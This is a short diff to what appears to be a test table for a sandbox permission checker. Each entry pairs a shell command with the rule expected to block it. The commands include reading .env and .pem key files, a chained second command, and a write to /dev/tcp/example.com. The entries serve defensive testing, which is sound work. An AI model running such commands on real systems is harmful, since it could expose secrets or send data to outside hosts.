@@ -146,6 +146,8 @@ group(
     ["cat < .env", 'files.deny_read: ".env"'],
     ["cat < keys/id.pem", 'files.deny_read: "**/*.pem"'],
     ["> /tmp/x", "builtin:write-outside-workspace"],
+    ["ls {PATH}>/dev/null; git status", "builtin:unparseable"],
+    ["echo x > /dev/tcp/example.com/80", "builtin:write-outside-workspace"],
   ],
 );
 
